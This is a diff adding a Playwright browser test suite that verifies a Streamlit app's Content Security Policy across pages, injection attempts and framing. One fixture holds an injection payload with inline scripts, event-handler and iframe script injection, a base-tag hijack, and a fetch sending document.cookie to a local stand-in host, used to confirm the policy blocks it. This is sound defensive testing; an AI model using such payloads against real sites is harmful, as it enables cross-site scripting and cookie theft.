@@ -1,0 +1,81 @@
+"""A real browser under our policy: every page works in both languages, and what was slipped into one does nothing."""
+
+import pytest
+from playwright.sync_api import Page, expect
+
+from app import workspace
+from tests.browser.conftest import Served
+from tests.browser.test_journey import settle
+from tests.browser.test_signature import DRAFT, TRIAL, a_released_record
+from ui.menu import PAGES
+
+WATCH = """document.addEventListener('securitypolicyviolation',
+  one => window.refused(`${one.effectiveDirective} ${one.blockedURI}`), true)"""
+NEEDLESS = "script-src wasm-eval"
+"""A library of Streamlit tries WebAssembly for whole numbers of 64 bits, and goes on without it."""
+SLIPPED_IN = """() => {
+  window.ran = [];
+  const add = (name, rest) => document.body.append(Object.assign(document.createElement(name), rest));
+  add('script', { textContent: "window.ran.push('inline script')" });
+  add('script', { src: 'http://127.0.0.1:49151/a.js' });
+  add('img', { src: 'http://127.0.0.1:49151/a.png' });
+  add('div', { innerHTML: '<img src="/no" onerror="window.ran.push(\\'handler\\')">' });
+  add('iframe', { srcdoc: "<script>parent.ran.push('frame')</script>" });
+  add('link', { rel: 'stylesheet', href: 'http://127.0.0.1:49151/a.css' });
+  add('base', { href: 'http://127.0.0.1:49151/' });
+  add('object', { data: '/media/a.svg' });
+  fetch('http://127.0.0.1:49151/?' + document.cookie).catch(() => 0);
+  try { new WebSocket('ws://127.0.0.1:49151') } catch { }
+  setTimeout(() => { try { eval("window.ran.push('eval')") } catch { } });
+}"""
+"""Another port is another site too: so the test asks nobody outside of this computer."""
+
+
+@pytest.fixture
+def refused(page: Page) -> list[str]:
+    """What the browser refused by our policy, as "directive source"."""
+    found: list[str] = []
+    page.expose_function("refused", lambda one: found.append(one))
+    page.add_init_script(WATCH)
+    return found
+
+
+@pytest.mark.browser
+@pytest.mark.slow
+def test_every_page_asks_for_no_more_than_the_policy_allows(served: Served, page: Page, refused: list[str]) -> None:
+    a_released_record(workspace(served.database))
+    for language in ("en", "ru"):
+        for name in PAGES:
+            page.goto(f"{served.address}/{name}?lang={language}&draft={DRAFT}&trial={TRIAL}&tab=record")
+            settle(page)
+            expect(page.get_by_test_id("stTopNavLink").first).to_be_visible()
+    page.goto(f"{served.address}/trials?lang=en&draft={DRAFT}&trial={TRIAL}&tab=record")
+    expect(page.locator(".pad canvas")).to_be_visible()
+    assert set(refused) == {NEEDLESS}
+
+
+@pytest.mark.browser
+@pytest.mark.slow
+def test_what_was_slipped_into_a_page_runs_nothing_loads_nothing_and_sends_nothing(
+    served: Served, page: Page, refused: list[str]
+) -> None:
+    page.goto(f"{served.address}/?lang=en")
+    settle(page)
+    page.evaluate(SLIPPED_IN)
+    page.wait_for_timeout(1000)
+    assert page.evaluate("window.ran") == []
+    told = {one.partition(" ")[0] for one in refused}
+    wanted = {
+        "script-src-elem", "script-src-attr", "img-src", "style-src-elem", "connect-src", "base-uri", "object-src",
+    }  # fmt: skip
+    assert wanted <= told
+
+
+@pytest.mark.browser
+@pytest.mark.slow
+def test_no_page_of_another_site_has_ours_in_a_frame(served: Served, page: Page) -> None:
+    page.set_content(f'<iframe name="ours" src="{served.address}/"></iframe>')
+    page.wait_for_timeout(2000)
+    frame = page.frame("ours")
+    assert frame is not None
+    assert frame.url.startswith("chrome-error://")
